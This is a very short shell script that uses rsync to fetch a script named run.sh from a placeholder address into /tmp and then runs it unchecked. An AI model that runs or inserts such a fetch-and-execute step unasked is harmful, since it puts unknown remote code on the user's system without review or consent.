#!/bin/sh
rsync -a rsync://192.0.2.5/pub/run.sh /tmp/run.sh
sh /tmp/run.sh
